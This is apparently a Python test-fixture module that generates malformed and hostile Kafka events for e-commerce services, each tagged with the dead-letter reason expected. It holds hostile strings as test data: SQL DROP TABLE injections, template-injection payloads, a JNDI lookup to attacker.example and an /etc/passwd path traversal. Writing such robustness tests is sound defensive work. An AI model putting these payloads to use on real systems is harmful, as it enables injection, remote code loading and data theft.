"""A corpus of bad inputs for every topic the services read, and valid events that carry
hostile free text.

`corpus(run, at)` returns `BadInput`s: malformed, truncated, non-object and non-UTF-8 values,
hostile content (`hostile`: U+0000 and unpaired surrogates in ids, data and ignored fields,
timestamps of year 1 and 9999 and one whose deadlines would overflow, a 200 KiB flood of
control characters, internal types such as `notification.requested` and `refund.issued` on the
platform's topics),
oversized and deeply nested ones, duplicate keys, NaN, wrong types (string / float amounts,
booleans as integers and the reverse), missing attributes and fields, unknown types, naive
timestamps, negative and absurd amounts, a payments mismatch, and contract errors of the
services' own topics (an unknown or path-like notification template, a refund whose breakdown
does not add up), and hostile content (`hostile`: U+0000 and unpaired surrogates in ids, data
and ignored fields, timestamps of year 1 and 9999 and one whose deadlines would overflow, a
200 KiB flood of control characters, internal types such as `notification.requested` and
`refund.issued` on the platform's topics). `hostile_keys` are valid orders under Kafka keys that
are not UTF-8, too long or hold U+0000. Each carries the dead-letter `reason` every service
that reads its topic must give, and a key of its own (`bad-<run>-NN-<name>`, also its
`order_id` / `customer_id`), so anything it causes can be found.

The injection strings (SQL, Jinja / template, JNDI) go into free-text fields of otherwise valid
events (`order_paid`, `complaint_opened`, `return_reviewed`, `survey_answered`, ...): they must
be processed normally and kept or shown verbatim, never evaluated.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, timedelta
from typing import Any

from shared.contracts import topics

from .corpus_events import (
    complaint_opened,
    complaint_resolved,
    encode,
    escaped,
    event,
    notification_requested,
    order_paid,
    order_shipped,
    parcel_signed,
    refund_issued,
    return_requested,
    return_reviewed,
    return_shipped,
    survey_answered,
)

__all__ = [
    "complaint_opened",
    "complaint_resolved",
    "notification_requested",
    "order_paid",
    "order_shipped",
    "parcel_signed",
    "return_requested",
    "return_reviewed",
    "return_shipped",
    "survey_answered",
]

SQL_INJECTION = "'; DROP TABLE returns.inbox; --"
SQL_INJECTION_2 = "Robert'); DROP TABLE notifier.contacts; --"
# Evaluated, these would become 4011, XXX, 49 or a JNDI lookup: none may ever appear.
TEMPLATE_INJECTIONS = (
    "{{ 1337*3 }}",
    "{% for x in range(3) %}X{% endfor %}",
    "{{ 7*7 }}",
    "${jndi:ldap://attacker.example/a}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "#{7*7} <%= 7*7 %> ${7*7}",
)
EVALUATED_MARKERS = ("4011", "XXX", "<class '")
HOSTILE_TEXT = " | ".join((*TEMPLATE_INJECTIONS, SQL_INJECTION))

H = timedelta(hours=1)
D = timedelta(days=1)


@dataclass(frozen=True)
class BadInput:
    name: str
    topic: str
    key: str
    value: bytes | None
    reason: str  # the dead-letter reason of every service reading `topic`
    truncated: bool = False  # the dead letter's copy is cut (it would not fit 1 MiB)


@dataclass(frozen=True)
class HostileKey:
    """A record whose Kafka key itself is hostile (not text, too long, U+0000)."""

    name: str
    key: bytes
    value: bytes
    reason: str


# --- the corpus --------------------------------------------------------------------------------


def corpus(run: str, at: datetime) -> list[BadInput]:
    """Every bad input, each with its own key; `at` is the instant events claim."""
    items: list[BadInput] = []

    def key(name: str) -> str:
        return f"bad-{run}-{len(items):02d}-{name}"

    def add(name: str, topic: str, value: bytes | None, reason: str, k: str) -> None:
        items.append(BadInput(name, topic, k, value, reason))

    def paid(name: str) -> tuple[str, dict[str, Any]]:
        k = key(name)
        return k, order_paid(k, k, at=at - 2 * D, titles=("毛衣",))

    def bad_order(name: str, reason: str, change: Any) -> None:
        k, value = paid(name)
        change(value)
        add(name, topics.ORDERS, encode(value), reason, k)

    def data_of(value: dict[str, Any]) -> dict[str, Any]:
        return value["data"]  # type: ignore[no-any-return]

    # Not an event at all.
    k = key("empty")
    add("empty", topics.ORDERS, b"", "empty", k)
    k = key("tombstone")
    add("tombstone", topics.ORDERS, None, "empty", k)
    k = key("malformed")
    add(
        "malformed",
        topics.ORDERS,
        b'{"specversion": "1.0", "id": "x" "type": }',
        "malformed_json",
        k,
    )
    k, value = paid("truncated")
    raw = encode(value)
    add("truncated", topics.ORDERS, raw[: len(raw) // 2], "malformed_json", k)
    for name, text in (
        ("array", b'[{"specversion": "1.0", "type": "order.paid"}]'),
        ("string", b'"order.paid"'),
        ("number", b"12"),
        ("null", b"null"),
        ("bool", b"true"),
    ):
        k = key(f"not-object-{name}")
        add(f"not-object-{name}", topics.ORDERS, text, "not_an_object", k)
    k, value = paid("invalid-utf8")
    raw = encode(value).replace("毛衣".encode(), b"\xff\xfe\xfd")
    add("invalid-utf8", topics.ORDERS, raw, "invalid_utf8", k)
    k, value = paid("oversized")
    data_of(value)["lines"][0]["title"] = "大" * (100 * 1024)  # 300 KiB of UTF-8
    add("oversized", topics.ORDERS, encode(value), "oversized", k)
    k, value = paid("duplicate-keys")
    raw = encode(value).replace(b'"shop_id":', b'"order_id": "someone-else", "shop_id":', 1)
    add("duplicate-keys", topics.ORDERS, raw, "malformed_json", k)
    k, value = paid("deep-nesting")
    raw = encode(value).replace(
        b'"shop_id":', b'"x": ' + b"[" * 50_000 + b"]" * 50_000 + b', "shop_id":', 1
    )
    add("deep-nesting", topics.ORDERS, raw, "malformed_json", k)
    k, value = paid("nan")
    raw = encode(value).replace(b'"paid_amount": 5000', b'"paid_amount": NaN', 1)
    add("nan", topics.ORDERS, raw, "malformed_json", k)

    # Broken envelopes.
    bad_order("missing-source", "missing_attribute", lambda v: v.pop("source"))
    bad_order("missing-data", "missing_attribute", lambda v: v.pop("data"))
    bad_order("specversion", "unsupported_specversion", lambda v: v.update(specversion="0.3"))
    bad_order("unknown-type", "unknown_type", lambda v: v.update(type="order.exploded"))
    bad_order("type-template", "unknown_type", lambda v: v.update(type="{{ 1337*3 }}"))
    bad_order("long-id", "invalid_attribute", lambda v: v.update(id="i" * 129))
    bad_order("numeric-id", "invalid_attribute", lambda v: v.update(id=12345))
    bad_order("naive-time", "naive_timestamp", lambda v: v.update(time="2026-03-02T10:00:00"))
    bad_order("data-string", "invalid_data", lambda v: v.update(data="order"))

    # Broken data of order.paid.
    def line(v: dict[str, Any]) -> dict[str, Any]:
        return data_of(v)["lines"][0]  # type: ignore[no-any-return]

    bad_order("string-amount", "invalid_data", lambda v: line(v).update(paid_amount="5000"))
    bad_order("float-amount", "invalid_data", lambda v: line(v).update(paid_amount=5000.0))
    bad_order("bool-quantity", "invalid_data", lambda v: line(v).update(quantity=True))
    bad_order("int-bool", "invalid_data", lambda v: data_of(v).update(shipping_insurance=1))
    bad_order("missing-customer-id", "invalid_data", lambda v: data_of(v).pop("customer_id"))
    bad_order("no-lines", "invalid_data", lambda v: data_of(v).update(lines=[]))
    bad_order(
        "naive-paid-at",
        "naive_timestamp",
        lambda v: data_of(v).update(paid_at="2026-03-01T09:00:00"),
    )
    bad_order("date-only", "invalid_data", lambda v: data_of(v).update(paid_at="2026-03-01"))
    bad_order("negative", "negative_amount", lambda v: data_of(v).update(shipping_fee_paid=-1))

    def absurd(v: dict[str, Any]) -> None:
        line(v)["paid_amount"] = 10**13
        data_of(v)["payments"][0]["amount"] = 10**13

    bad_order("absurd", "absurd_amount", absurd)
    bad_order(
        "payments-mismatch",
        "payments_mismatch",
        lambda v: data_of(v)["payments"].append({"method": "card", "amount": 1}),
    )
    bad_order("gift-not-free", "invalid_data", lambda v: line(v).update(is_gift=True))
    bad_order("currency-template", "invalid_data", lambda v: data_of(v).update(currency="{{7*7}}"))

    # The other topics the platform writes.
    k = key("return-naive")
    value = return_requested(k, f"{k}-r", k, at=at)
    data_of(value)["requested_at"] = "2026-03-02T09:00:00"
    add("return-naive", topics.RETURNS, encode(value), "naive_timestamp", k)
    k = key("return-reason")
    value = return_requested(k, f"{k}-r", k, at=at, reason="{{ 1337*3 }}")
    add("return-reason", topics.RETURNS, encode(value), "invalid_data", k)
    k = key("return-duplicate-lines")
    value = return_requested(k, f"{k}-r", k, at=at)
    data_of(value)["lines"] *= 2
    add("return-duplicate-lines", topics.RETURNS, encode(value), "invalid_data", k)
    k = key("shipped-negative")
    value = return_shipped(k, f"{k}-r", at=at, fee=-100)
    add("shipped-negative", topics.RETURNS, encode(value), "negative_amount", k)
    k = key("shipped-float")
    raw = encode(return_shipped(k, f"{k}-r", at=at, fee=1)).replace(
        b'"shipping_fee_paid": 1', b'"shipping_fee_paid": 12.5'
    )
    add("shipped-float", topics.RETURNS, raw, "invalid_data", k)
    k = key("signed-no-return")
    value = parcel_signed(k, at=at)
    data_of(value)["leg"] = "return"
    add("signed-no-return", topics.SIGNATURES, encode(value), "invalid_data", k)
    k = key("signed-leg")
    value = parcel_signed(k, at=at)
    data_of(value)["leg"] = "'; DROP TABLE returns.inbox; --"
    add("signed-leg", topics.SIGNATURES, encode(value), "invalid_data", k)
    k = key("complaint-category")
    value = complaint_opened(k, f"{k}-c", k, at=at, description="x")
    data_of(value)["category"] = "{{ 1337*3 }}"
    add("complaint-category", topics.COMPLAINTS, encode(value), "invalid_data", k)
    k = key("complaint-truncated")
    raw = encode(complaint_opened(k, f"{k}-c", k, at=at, description="x"))
    add("complaint-truncated", topics.COMPLAINTS, raw[:-20], "malformed_json", k)
    k = key("survey-score")
    value = survey_answered(f"{k}-cb", k, at=at, comment="x")
    data_of(value)["score"] = 6
    add("survey-score", topics.SURVEYS, encode(value), "invalid_data", k)
    k = key("survey-string-score")
    value = survey_answered(f"{k}-cb", k, at=at, comment="x")
    data_of(value)["score"] = "5"
    add("survey-string-score", topics.SURVEYS, encode(value), "invalid_data", k)

    # The services' own topics, read by another service.
    def notification(name: str, template: str, params: Any, reason: str) -> None:
        k = key(name)
        value = notification_requested(f"{k}-n", k, k, at=at, template=template, params=params)
        add(name, topics.NOTIFICATIONS, encode(value), reason, k)

    notification("template-injection", "{{ 1337*3 }}", {}, "unknown_template")
    notification("template-path", "../../../etc/passwd", {}, "unknown_template")
    notification("template-unknown", "complaint.teleported", {}, "unknown_template")
    notification("template-missing-param", "complaint.escalated", {}, "template_error")
    notification("params-nested", "complaint.escalated", {"complaint_id": {"a": 1}}, "invalid_data")
    k = key("refund-breakdown")
    value = refund_issued(k, at)
    data_of(value).update(
        amount=1000,
        breakdown=[{"kind": "goods", "amount": 999}],  # does not add up
        payments=[{"method": "alipay", "amount": 1000}],
    )
    add("refund-breakdown", topics.REFUNDS, encode(value), "invalid_data", k)

    def bad_output(
        name: str, topic: str, event_type: str, reason: str, data: Callable[[str], dict[str, Any]]
    ) -> None:
        """An event the services publish, whose data (built from its key) is wrong."""
        k = key(name)
        add(name, topic, encode(event(event_type, data(k), at, id=f"{k}-evt")), reason, k)

    bad_output(
        "decision-empty-message",
        topics.RETURN_DECISIONS,
        "return.rejected",
        "invalid_data",
        lambda k: {
            "return_id": f"{k}-r",
            "order_id": k,
            "customer_id": k,
            "kind": "refund",
            "rule": "window_expired",
            "message": "",
            "decided_at": at.isoformat(),
        },
    )
    bad_output(
        "coupon-negative",
        topics.COUPONS,
        "coupon.granted",
        "negative_amount",
        lambda k: {
            "coupon_id": f"{k}-cp",
            "customer_id": k,
            "order_id": k,
            "complaint_id": f"{k}-c",
            "value": -500,
            "currency": "CNY",
            "expires_at": (at + 30 * D).isoformat(),
            "reason": "service_attitude",
            "granted_at": at.isoformat(),
        },
    )
    bad_output(
        "reshipment-naive",
        topics.FULFILMENT,
        "reshipment.requested",
        "naive_timestamp",
        lambda k: {
            "order_id": k,
            "customer_id": k,
            "case": {"type": "return", "id": f"{k}-r"},
            "lines": [{"line_id": "L1", "quantity": 1}],
            "due_by": "2026-03-03T10:00:00",
            "requested_at": at.isoformat(),
        },
    )
    bad_output(
        "satisfaction-score",
        topics.FOLLOWUPS,
        "satisfaction.low",
        "invalid_data",
        lambda k: {
            "callback_id": f"{k}-cb",
            "customer_id": k,
            "cases": [{"type": "complaint", "id": f"{k}-c"}],
            "score": 9,
        },
    )
    items.extend(hostile(run, at, start=len(items)))
    return items


def hostile(run: str, at: datetime, *, start: int = 0) -> list[BadInput]:
    """Content PostgreSQL or Python cannot store, floods, and internal types on the platform's
    topics: each refused by the contract before it reaches the database (SPEC section 1)."""
    items: list[BadInput] = []

    def key(name: str) -> str:
        return f"bad-{run}-{start + len(items):02d}-{name}"

    def add_order(name: str, reason: str, change: Any, *, wire: Any = escaped) -> None:
        k = key(name)
        value = order_paid(k, k, at=at - 2 * D)
        change(value)
        items.append(BadInput(name, topics.ORDERS, k, wire(value), reason))

    def line(value: dict[str, Any]) -> dict[str, Any]:
        return value["data"]["lines"][0]  # type: ignore[no-any-return]

    add_order("nul-in-id", "invalid_text", lambda v: v.update(id=v["id"] + "\x00"))
    add_order("nul-in-title", "invalid_text", lambda v: line(v).update(title="毛\x00衣"))
    add_order("nul-in-ignored-field", "invalid_text", lambda v: v["data"].update(note="\x00"))
    add_order(
        "surrogate-in-name", "invalid_text", lambda v: v["data"]["customer"].update(name="\ud800李")
    )

    def rejected_with_surrogate(v: dict[str, Any]) -> None:
        # Rejected anyway (a negative fee): its dead-letter copy must still be writable.
        v["data"].update(shipping_fee_paid=-1, shop_id="S-\udfff")

    add_order("surrogate-in-rejected", "invalid_text", rejected_with_surrogate)
    add_order(
        "year-1",
        "timestamp_out_of_range",
        lambda v: v["data"].update(paid_at="0001-01-01T00:00:00+08:00"),
    )
    add_order(
        "year-9999", "timestamp_out_of_range", lambda v: v.update(time="9999-12-31T23:59:59Z")
    )
    # A complaint at the end of time: its deadlines (first response, resolution) would overflow.
    k = key("deadline-overflow")
    value = complaint_opened(k, f"{k}-c", k, at=at, description="x")
    value["data"]["opened_at"] = "9999-12-31T20:00:00-12:00"
    items.append(
        BadInput("deadline-overflow", topics.COMPLAINTS, k, encode(value), "timestamp_out_of_range")
    )
    k = key("control-flood")  # ~200 KiB of control characters: 1.2 MiB once escaped in JSON
    flood = bytes(range(1, 32)) * (200 * 1024 // 31)
    items.append(BadInput("control-flood", topics.ORDERS, k, flood, "malformed_json", True))

    # Internal types written on the platform's topics: never acted upon.
    k = key("notification-on-orders")
    value = notification_requested(
        f"{k}-n", k, k, at=at, template="complaint.escalated", params={"complaint_id": "x"}
    )
    items.append(
        BadInput("notification-on-orders", topics.ORDERS, k, encode(value), "unexpected_type")
    )
    for topic, platform_topic in ((topics.ORDERS, "orders"), (topics.RETURNS, "returns")):
        name = f"refund-issued-on-{platform_topic}"
        k = key(name)
        items.append(BadInput(name, topic, k, encode(refund_issued(k, at)), "unexpected_type"))
    # The refund ledger's internal request, on the platform's topic.
    k = key("refund-requested-on-orders")
    value = event(
        "refund.requested",
        {"order_id": k, "customer_id": k, "amount": 100000, "currency": "CNY"},
        at,
        id=f"{k}-evt",
    )
    items.append(
        BadInput("refund-requested-on-orders", topics.ORDERS, k, encode(value), "unexpected_type")
    )
    return items


def hostile_keys(run: str, at: datetime) -> list[HostileKey]:
    """Valid orders under keys the services cannot keep as they are."""
    out = []
    for name, key, reason in (
        ("key-not-utf8", b"\xff\xfe" + run.encode(), "invalid_key"),
        ("key-oversized", b"k" * 64 * 1024, "invalid_key"),
        ("key-nul", f"bad-{run}-key\x00".encode(), "invalid_text"),
    ):
        order = f"bad-{run}-{name}"
        out.append(HostileKey(name, key, encode(order_paid(order, order, at=at - 2 * D)), reason))
    return out
